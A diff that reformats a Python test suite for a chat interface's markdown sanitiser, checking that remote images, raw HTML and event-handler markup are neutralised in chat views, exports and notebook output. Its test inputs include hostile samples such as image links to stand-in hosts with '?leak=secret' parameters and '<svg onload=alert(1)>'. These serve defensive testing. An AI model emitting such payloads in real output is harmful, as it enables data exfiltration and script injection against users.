@@ -28,9 +28,12 @@ from tests.conftest import run_async
 
 # An unescaped "<" that opens anything but a bare allowed tag, our box mark, or a link
 # destination in angle brackets.
-LIVE_TAG = re.compile(r"(?<!\\)(?<!\]\()<(?!/?(?:b|strong|i|em|u|s|del|ins|sub|sup|small|mark|"
-                      r"kbd|code|br|hr|p|details|summary|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|h[1-6])"
-                      r"\s*/?>)(?!mark class=\"glmv-box\">)[A-Za-z!/?]", re.IGNORECASE)
+LIVE_TAG = re.compile(
+    r"(?<!\\)(?<!\]\()<(?!/?(?:b|strong|i|em|u|s|del|ins|sub|sup|small|mark|"
+    r"kbd|code|br|hr|p|details|summary|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|h[1-6])"
+    r"\s*/?>)(?!mark class=\"glmv-box\">)[A-Za-z!/?]",
+    re.IGNORECASE,
+)
 
 HOSTILE = [
     '<img src="http://evil.test/p?leak=1">',
@@ -58,14 +61,17 @@ def test_no_element_with_attributes_survives(text: str) -> None:
     assert "![" not in out.replace("!\\[", "")
 
 
-@pytest.mark.parametrize("text", [
-    "![x](http://127.0.0.1:9/p?leak=secret)",
-    "![x]( <http://evil.test/a b> )",
-    '![x](http://evil.test/t "title")',
-    "![x][r]\n\n[r]: http://evil.test/ref",
-    "![x]",
-    "![a ![b](http://evil.test/in)](http://evil.test/out)",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](http://127.0.0.1:9/p?leak=secret)",
+        "![x]( <http://evil.test/a b> )",
+        '![x](http://evil.test/t "title")',
+        "![x][r]\n\n[r]: http://evil.test/ref",
+        "![x]",
+        "![a ![b](http://evil.test/in)](http://evil.test/out)",
+    ],
+)
 def test_images_become_links_or_text(text: str) -> None:
     out = chat_markdown(text)
     assert not re.search(r"(?<!\\)!\[", out), out
@@ -75,29 +81,38 @@ def test_images_become_links_or_text(text: str) -> None:
 
 def test_remote_image_names_its_host() -> None:
     out = chat_markdown("see ![chart](https://cdn.example.org/c.png?u=1)")
-    assert out == ("see [🖼 chart (image on cdn.example.org, not loaded)]"
-                   "(<https://cdn.example.org/c.png?u=1>)")
-    assert remote_images("![a](http://h.test/x) ![b](data:image/png;base64,AAAA)")[0].host \
-        == "h.test"
+    assert out == (
+        "see [🖼 chart (image on cdn.example.org, not loaded)](<https://cdn.example.org/c.png?u=1>)"
+    )
+    assert (
+        remote_images("![a](http://h.test/x) ![b](data:image/png;base64,AAAA)")[0].host == "h.test"
+    )
 
 
 def test_data_images_and_own_marks_stay() -> None:
-    assert chat_markdown("![dot](data:image/png;base64,iVBORw0KGgo=)") == \
-        "![dot](data:image/png;base64,iVBORw0KGgo=)"
+    assert (
+        chat_markdown("![dot](data:image/png;base64,iVBORw0KGgo=)")
+        == "![dot](data:image/png;base64,iVBORw0KGgo=)"
+    )
     marked = '<mark class="glmv-box">[1,2,3,4]</mark> <mark class="x">'
-    assert chat_markdown(marked, OWN_MARKS) == \
-        '<mark class="glmv-box">[1,2,3,4]</mark> &lt;mark class="x">'
+    assert (
+        chat_markdown(marked, OWN_MARKS)
+        == '<mark class="glmv-box">[1,2,3,4]</mark> &lt;mark class="x">'
+    )
 
 
-@pytest.mark.parametrize("text", [
-    "# Title\n\n- **bold** and *it*\n\n| a | b |\n|---|---|\n| 1 | 2 |",
-    "Use `<div class=\"x\">` here.",
-    "```html\n<!DOCTYPE html>\n<img src=\"http://a/b\">\n```",
-    "~~~\n<script>x</script>\n~~~",
-    "Math: $a_1 + b^2$ and $$\\frac{1}{2}$$",
-    "[a link](https://example.org/page)",
-    "line<br>break, H<sub>2</sub>O, x<sup>2</sup>",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "# Title\n\n- **bold** and *it*\n\n| a | b |\n|---|---|\n| 1 | 2 |",
+        'Use `<div class="x">` here.',
+        '```html\n<!DOCTYPE html>\n<img src="http://a/b">\n```',
+        "~~~\n<script>x</script>\n~~~",
+        "Math: $a_1 + b^2$ and $$\\frac{1}{2}$$",
+        "[a link](https://example.org/page)",
+        "line<br>break, H<sub>2</sub>O, x<sup>2</sup>",
+    ],
+)
 def test_ordinary_markdown_is_unchanged(text: str) -> None:
     assert chat_markdown(text, OWN_MARKS) == text
 
@@ -112,9 +127,13 @@ def test_plain_markdown_escapes_every_active_character() -> None:
     name = "<img src=x>![a](b)`c`*d*_e_|f|$g$&amp;.png"
     out = plain_markdown(name)
     rendered = markdown_html(out)
-    assert "<img" not in rendered and "<code>" not in rendered and "<em>" not in rendered
+    assert "<img" not in rendered
+    assert "<code>" not in rendered
+    assert "<em>" not in rendered
     assert html.unescape(re.sub(r"\\(.)", r"\1", out)) == name
-    assert "<" not in out and "\\[" not in out and "\\(" not in out  # no raw tag, no LaTeX
+    assert "<" not in out
+    assert "\\[" not in out
+    assert "\\(" not in out
     assert plain_markdown("- starts a list") == "\\- starts a list"
 
 
@@ -137,11 +156,16 @@ def _reply(raw: str) -> Reply:
 
 
 def test_chat_messages_carry_no_live_markup() -> None:
-    reply = _reply("<think>![t](http://evil.test/think) <img src=http://evil.test/t2></think>"
-                   "<answer>Box <|begin_of_box|>[1,2,3,4]<|end_of_box|> "
-                   "<input type=image src=http://evil.test/in></answer>")
-    messages = turn_messages("<img src=http://evil.test/user> ![u](http://evil.test/u)",
-                             [("/tmp/x.png", "<svg onload=alert(1)>.png · 1 image")], reply)
+    reply = _reply(
+        "<think>![t](http://evil.test/think) <img src=http://evil.test/t2></think>"
+        "<answer>Box <|begin_of_box|>[1,2,3,4]<|end_of_box|> "
+        "<input type=image src=http://evil.test/in></answer>"
+    )
+    messages = turn_messages(
+        "<img src=http://evil.test/user> ![u](http://evil.test/u)",
+        [("/tmp/x.png", "<svg onload=alert(1)>.png · 1 image")],
+        reply,
+    )
     texts = [m["content"]["text"] for m in messages if "text" in m["content"]]
     joined = "\n".join(texts)
     assert 'mark class="glmv-box"' in joined
@@ -152,21 +176,31 @@ def test_chat_messages_carry_no_live_markup() -> None:
 
 
 def test_markdown_export_neutralises_fields() -> None:
-    turn = Turn(text="<img src=http://evil.test/q> ![q](http://evil.test/q2)",
-                raw="<think><svg><image href=http://evil.test/th /></svg></think>"
-                    "<answer>![a](http://evil.test/a) <form action=http://evil.test/f></answer>",
-                status="error", error="<img src=http://evil.test/err>")
+    turn = Turn(
+        text="<img src=http://evil.test/q> ![q](http://evil.test/q2)",
+        raw="<think><svg><image href=http://evil.test/th /></svg></think>"
+        "<answer>![a](http://evil.test/a) <form action=http://evil.test/f></answer>",
+        status="error",
+        error="<img src=http://evil.test/err>",
+    )
     md = to_markdown([turn], model="<b onclick=x>m</b>", system_prompt="<img src=http://e/s>")
     rendered = markdown_html(md)
-    assert "<img" not in rendered and "<form" not in rendered and "<svg" not in rendered
+    assert "<img" not in rendered
+    assert "<form" not in rendered
+    assert "<svg" not in rendered
     assert "image on evil.test" in md
-    assert not LIVE_TAG.search(md.replace("<details><summary>Thinking</summary>", "")
-                               .replace("</details>", ""))
+    assert not LIVE_TAG.search(
+        md.replace("<details><summary>Thinking</summary>", "").replace("</details>", "")
+    )
 
 
 def test_notebook_view_makes_no_remote_image() -> None:
-    out = reply_html(_reply("<think>x</think><answer>![x](http://host.test/leak?c=secret) "
-                            "<img src=http://host.test/raw></answer>"))
+    out = reply_html(
+        _reply(
+            "<think>x</think><answer>![x](http://host.test/leak?c=secret) "
+            "<img src=http://host.test/raw></answer>"
+        )
+    )
     assert "<img" not in out.replace('<img alt="', "")  # only a drawn figure could be an img
     assert "image on host.test" in out
 
@@ -180,8 +214,13 @@ async def _app(scope: dict, receive: object, send: object) -> None:
         body = b"PNG"
     elif scope["path"] != "/config":
         body = b"{}"
-    await send({"type": "http.response.start", "status": 200,  # type: ignore[operator]
-                "headers": [(b"content-type", b"application/json")]})
+    await send(
+        {
+            "type": "http.response.start",
+            "status": 200,  # type: ignore[operator]
+            "headers": [(b"content-type", b"application/json")],
+        }
+    )
     await send({"type": "http.response.body", "body": body})  # type: ignore[operator]
 
 
@@ -194,8 +233,10 @@ async def _file_guard() -> None:
     app = SecurityHeaders(FileGuard(_app, roots=["/srv/guarded"]))  # type: ignore[arg-type]
     transport = httpx.ASGITransport(app=app)  # type: ignore[arg-type]
     url = "/gradio_api/file=/srv/guarded/a/f.png"
-    async with httpx.AsyncClient(transport=transport, base_url="http://t") as one, \
-            httpx.AsyncClient(transport=transport, base_url="http://t") as two:
+    async with (
+        httpx.AsyncClient(transport=transport, base_url="http://t") as one,
+        httpx.AsyncClient(transport=transport, base_url="http://t") as two,
+    ):
         first = await one.get("/config")
         assert first.headers["content-security-policy"] == CSP
         assert COOKIE in first.cookies
